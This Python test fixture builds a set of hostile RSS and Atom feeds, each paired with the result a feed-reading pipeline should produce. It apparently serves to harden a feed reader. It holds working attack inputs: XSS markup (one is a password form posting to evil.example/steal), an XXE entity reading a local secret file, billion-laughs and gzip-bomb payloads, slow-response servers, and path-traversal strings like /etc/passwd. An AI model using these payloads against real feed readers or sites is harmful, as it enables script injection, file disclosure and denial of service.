"""A farm of hostile feeds: one URL per bad behaviour, next to a few good feeds.

``build(farm, secret)`` installs the routes and returns the cases, each with what the
pipeline must make of it: ``ok`` (read, possibly with a warning) or ``error`` with a
phrase the one-line reason must contain.
"""

from __future__ import annotations

import gzip
import socket
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import BinaryIO
from xml.sax.saxutils import escape

from tests.farm import Answer, Farm, Raw, rss

RSS = {"Content-Type": "application/rss+xml; charset=utf-8"}


@dataclass(frozen=True)
class Case:
    name: str
    url: str
    expect: str  # "ok" or "error"
    reason: str = ""  # for errors: a phrase of the one-line reason
    slow: bool = False  # only ends at a timeout or the deadline
    tags: tuple[str, ...] = ()


# Network -------------------------------------------------------------------------------


def _never_answers(wfile: BinaryIO, stopping: threading.Event) -> None:
    stopping.wait()


def _trickle_headers(wfile: BinaryIO, stopping: threading.Event) -> None:
    wfile.write(b"HTTP/1.1 200 OK\r\n")
    while not stopping.wait(0.5):
        wfile.write(b"X-Slow: a\r\n")


def _drip_body(wfile: BinaryIO, stopping: threading.Event) -> None:
    wfile.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n"
    )
    while not stopping.wait(1.0):
        wfile.write(b"<")


def _endless_body(wfile: BinaryIO, stopping: threading.Event) -> None:
    wfile.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nConnection: close\r\n\r\n"
        b"<rss version='2.0'><channel><title>endless</title>"
    )
    chunk = b"<item><title>more</title><link>http://endless.example/</link></item>" * 1000
    while not stopping.is_set():
        wfile.write(chunk)


def gzip_bomb(size: int = 1 << 30) -> bytes:
    """``size`` zero bytes once decompressed (1 GiB by default), about 1 MB on the wire."""
    member = gzip.compress(b"\0" * (1 << 20), compresslevel=9)
    return member * (size >> 20)


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# Content -------------------------------------------------------------------------------


def _item(title: str = "", link: str | None = None, **fields: str) -> dict[str, str]:
    item = {"title": title, **fields}
    if link is not None:
        item["link"] = link
    return item


def _doc(title: str, items_xml: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel>'
        f"<title>{title}</title><link>http://hostile.example/</link>{items_xml}</channel></rss>"
    ).encode()


MARKUP = [
    "<p>ok</p><script>alert('script')</script>",
    '<img src="https://img.example/a.png" onerror="alert(1)" onload="alert(2)">',
    '<a href="javascript:alert(1)">js</a> <a href="vbscript:msgbox(1)">vbs</a>',
    '<a href=" JaVaScRiPt:alert(1)">js2</a><a href="jav&#x09;ascript:alert(1)">js3</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo="><a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<style>body{background:url(javascript:alert(1))}</style><p style="width:expression(alert(1))">x</p>',
    '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">s</a></svg>',
    '<base href="https://evil.example/"><a href="relative">r</a>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)//",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<a href="https://ok.example/" onclick="alert(1)" style="color:red;background:url(x)">styled</a>',
    '<div style="-moz-binding:url(x)">b</div><link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--<img src=x onerror=alert(1)>--><p>after comment</p>",
    '<object><param name="src" value="javascript:alert(1)"></object><applet code="x"></applet>',
]

HOSTILE_NAMES = [
    "---",
    "key: value",
    "\"quoted\" and 'single'",
    "back\\slash \\n",
    "line one\nline two",
    "nul\x00and\x01control\x1f",
    "\u202eright-to-left\u200f mark",
    "emoji 🎉🔥 中文",
    "x" * 10_000,
    "../../../../tmp/escape-attempt",
    "/etc/passwd",
    "{{ site.title }} {% raw %}",
]


def build(farm: Farm, secret: Path) -> list[Case]:
    """Install every hostile route on ``farm``; ``secret`` is a local file XXE aims at."""
    cases: list[Case] = []

    def add(
        name: str, route: Answer | Raw, expect: str, reason: str = "", slow: bool = False
    ) -> None:
        farm.routes[f"/{name}"] = route
        cases.append(Case(name, farm.url(f"/{name}"), expect, reason, slow))

    # Network
    cases.append(
        Case(
            "refused",
            f"http://127.0.0.1:{closed_port()}/feed",
            "error",
            "cannot connect: connection refused",
        )
    )
    cases.append(
        Case(
            "unresolvable",
            "http://feeds.nowhere.invalid/rss",
            "error",
            "cannot connect: no address for feeds.nowhere.invalid",
        )
    )
    add("never-answers", Raw(_never_answers), "error", "timed out", slow=True)
    add(
        "trickle-headers",
        Raw(_trickle_headers),
        "error",
        "no complete answer within 30 s",
        slow=True,
    )
    add("drip-body", Raw(_drip_body), "error", "no complete answer within 30 s", slow=True)
    add("endless-body", Raw(_endless_body), "error", "larger than the 10,485,760-byte limit")
    add(
        "gzip-bomb",
        Answer(200, gzip_bomb(), {**RSS, "Content-Encoding": "gzip"}),
        "error",
        "larger than",
    )
    add(
        "redirect-loop",
        Answer(302, headers={"Location": "/redirect-loop"}),
        "error",
        "more than 5 redirects",
    )
    add(
        "redirect-file",
        Answer(301, headers={"Location": f"file://{secret}"}),
        "error",
        "redirect to a non-http URL",
    )
    add(
        "redirect-ftp",
        Answer(302, headers={"Location": "ftp://ftp.example/feed"}),
        "error",
        "redirect to a non-http URL",
    )
    cases.append(
        Case(
            "tls-to-plain",
            farm.url("/good-1").replace("http://", "https://"),
            "error",
            "cannot connect",
        )
    )

    # Status
    add("status-404", Answer(404, b"no"), "error", "HTTP 404")
    add("status-500", Answer(500, b"oops"), "error", "HTTP 500")
    add("status-503", Answer(503, b"busy", {"Retry-After": "120"}), "error", "HTTP 503")
    add(
        "status-429",
        Answer(429, b"slow down", {"Retry-After": "Wed, 01 Jan 2031 00:00:00 GMT"}),
        "error",
        "HTTP 429",
    )
    add("status-410", Answer(410, b"gone"), "error", "HTTP 410 Gone")
    add("status-304", Answer(304), "error", "304 Not Modified to a request without validators")
    add("empty-body", Answer(200, b"", RSS), "error", "empty body")

    # Content
    add(
        "html-page",
        Answer(
            200,
            b"<!doctype html><html><body><h1>Welcome</h1></body></html>",
            {"Content-Type": "text/html"},
        ),
        "error",
        "not a feed",
    )
    add(
        "binary-garbage",
        Answer(200, bytes(range(256)) * 64, {"Content-Type": "application/octet-stream"}),
        "error",
        "not a feed",
    )
    good = rss([_item("Truncated story", "https://trunc.example/1", description="x" * 100)])
    add("truncated-xml", Answer(200, good[: len(good) // 2], RSS), "ok")
    lying = '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Café</title><item><title>Crème brûlée</title><link>https://lying.example/1</link></item></channel></rss>'
    add(
        "lying-encoding",
        Answer(200, lying.encode("latin-1"), {"Content-Type": "application/rss+xml"}),
        "ok",
    )
    utf16 = '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><title>UTF-16 ünï</title><item><title>Wide ünï</title><link>https://utf16.example/1</link></item></channel></rss>'
    add("utf16-bom", Answer(200, utf16.encode("utf-16"), {"Content-Type": "application/xml"}), "ok")
    add(
        "utf16-no-bom",
        Answer(
            200,
            utf16.replace("utf-16", "utf-16le").encode("utf-16-le"),
            {"Content-Type": "application/xml"},
        ),
        "ok",
    )
    xxe = _doc(
        "XXE &xxe;",
        "<item><title>XXE &xxe;</title><link>https://xxe.example/1</link><description>&xxe;</description></item>",
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>',
    )
    add("xxe", Answer(200, xxe, RSS), "ok")
    lol = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    laughs = _doc(
        "Laughs",
        "<item><title>&lol9;</title><link>https://laughs.example/1</link></item>",
        f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{lol}]>',
    )
    add("billion-laughs", Answer(200, laughs, RSS), "ok")
    big = rss(
        [
            _item(
                f"Bulk {i}",
                f"https://bulk.example/{i}",
                pubDate=f"{1 + i % 28:02d} Feb 2020 {i % 24:02d}:00:00 GMT",
            )
            for i in range(50_000)
        ],
        title="Fifty thousand",
    )
    add("items-50000", Answer(200, big, RSS), "ok")
    huge = rss(
        [
            _item(
                "One huge item",
                "https://huge.example/1",
                description="<p>" + "lorem ipsum " * 870_000 + "</p>",
            )
        ],
        title="Huge item",
    )
    add("item-10mib", Answer(200, huge, RSS), "ok")
    odd = rss(
        [
            _item("", "https://odd.example/no-title", description="<p>no title here</p>"),
            _item("No link", None, guid="odd-guid-1", description="no link"),
            _item("", None, description="<p>neither title nor link</p>"),
            _item("No date", "https://odd.example/no-date"),
            _item(
                "Far future", "https://odd.example/9999", pubDate="Fri, 31 Dec 9999 23:59:59 GMT"
            ),
            _item("Epoch", "https://odd.example/1970", pubDate="Thu, 01 Jan 1970 00:00:00 GMT"),
            _item("Same guid A", "https://odd.example/guid-a", guid="dup-guid"),
            _item("Same guid B", "https://odd.example/guid-b", guid="dup-guid"),
            _item("Same link 1", "https://odd.example/same"),
            _item("Same link 2", "https://odd.example/same?utm_source=x"),
            _item("Path escape", "../../../../etc/passwd"),
            _item("Absolute path", "/etc/passwd"),
            _item("File URL", "file:///etc/passwd"),
        ],
        title="Odd items",
    )
    add("odd-items", Answer(200, odd, RSS), "ok")

    # Markup
    markup = rss(
        [
            _item(f"Markup {i}", f"https://markup.example/{i}", description=html)
            for i, html in enumerate(MARKUP)
        ],
        title="Markup attacks",
    )
    add("markup", Answer(200, markup, RSS), "ok")
    atom_markup = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Atom markup</title><id>urn:x</id><updated>2024-01-01T00:00:00Z</updated>'
        + "".join(
            f'<entry><id>urn:x:{i}</id><title type="html">{escape("<b>T</b><script>alert(1)</script>")} {i}</title><link href="https://atom-markup.example/{i}"/>'
            f'<updated>2024-01-01T00:00:00Z</updated><content type="html">{escape(html)}</content></entry>'
            for i, html in enumerate(MARKUP)
        )
        + "</feed>"
    ).encode()
    add("atom-markup", Answer(200, atom_markup, {"Content-Type": "application/atom+xml"}), "ok")

    # Names: hostile feed titles (the source name) and item titles
    for i, name in enumerate(HOSTILE_NAMES):
        body = _doc(
            escape(name.replace("\x00", "").replace("\x01", "").replace("\x1f", "")),
            "".join(
                f"<item><title>{escape(t)}</title><link>https://names.example/{i}/{j}</link></item>"
                for j, t in enumerate(HOSTILE_NAMES)
            )
            .replace("\x00", "&#0;")
            .replace("\x01", "&#1;")
            .replace("\x1f", "&#31;"),
        )
        add(f"names-{i}", Answer(200, body, RSS), "ok")

    # Good feeds
    for i in range(1, 4):
        add(
            f"good-{i}",
            Answer(
                200,
                rss(
                    [
                        _item(
                            f"Good {i}.{j}",
                            f"https://good.example/{i}/{j}",
                            pubDate="Mon, 06 May 2024 10:00:00 GMT",
                        )
                        for j in range(3)
                    ],
                    title=f"Good feed {i}",
                ),
                RSS,
            ),
            "ok",
        )
    return cases
